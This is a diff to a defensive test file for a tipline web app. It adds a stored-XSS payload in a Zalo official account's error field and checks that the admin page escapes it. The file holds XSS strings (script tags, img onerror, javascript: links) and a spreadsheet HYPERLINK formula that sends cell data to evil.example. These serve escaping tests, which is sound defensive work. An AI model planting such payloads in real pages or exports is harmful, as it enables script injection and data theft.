@@ -22,11 +22,11 @@ from sqlalchemy import select
 
 from keys import FAST_TEST_COST
 from tests.browser import log_in
-from tests.conftest import expand
+from tests.conftest import COMMUNE_OA, expand
 from tests.hostile.routes import Call, send
 from tests.hostile.world import PROVINCE, UNIT_A, USER_A, World, build_world, send_event
 from tests.zalo_events import event
-from tipline.models import Officer, Unit
+from tipline.models import Officer, OfficialAccount, Unit
 from tipline.officers import add_officer
 from tipline.runtime import Runtime
 from tipline.units import add_unit
@@ -39,7 +39,9 @@ PROVINCE_NAME = "<a href=\"javascript:alert('province')\">Công an tỉnh</a>"
 NEW_UNIT = '</option><script>alert("new-unit")</script>'
 OFFICER = '<img src=x onerror=alert("officer")>'
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Bấm")'
-PAYLOADS = (TEXT, NOTE, REPLY, UNIT, PROVINCE_NAME, NEW_UNIT, OFFICER)
+# Zalo's own words in an OA's last error (a hostile or compromised Zalo answer).
+ZALO_ERROR = 'zalo -224: <img src=x onerror=alert("zalo")>'
+PAYLOADS = (TEXT, NOTE, REPLY, UNIT, PROVINCE_NAME, NEW_UNIT, OFFICER, ZALO_ERROR)
 
 
 def make_hostile(world: World) -> str:
@@ -50,6 +52,9 @@ def make_hostile(world: World) -> str:
     with runtime.sessions() as db, db.begin():
         db.scalars(select(Unit).where(Unit.code == UNIT_A)).one().name = UNIT
         db.scalars(select(Unit).where(Unit.code == PROVINCE)).one().name = PROVINCE_NAME
+        db.scalars(
+            select(OfficialAccount).where(OfficialAccount.oa_id == COMMUNE_OA)
+        ).one().last_error = ZALO_ERROR
         add_unit(db, code="x-ss", name=NEW_UNIT, level="commune", parent_code=PROVINCE)
         add_officer(
             db,
@@ -114,6 +119,7 @@ PAGES: dict[str, Shown] = {
     "officer's audit page": Shown("thanhtra", "/audit/officers/{officer}", (OFFICER,)),
     "anomalies": Shown("thanhtra", "/audit/anomalies", (OFFICER,)),
     "admin page": Shown("admin", "/admin/", (OFFICER, UNIT, PROVINCE_NAME, NEW_UNIT)),
+    "admin's OA page": Shown("admin", "/admin/zalo/", (UNIT, PROVINCE_NAME, ZALO_ERROR)),
     "web form's unit list": Shown("anonymous", "/bao-tin", (UNIT, PROVINCE_NAME, NEW_UNIT)),
 }
 
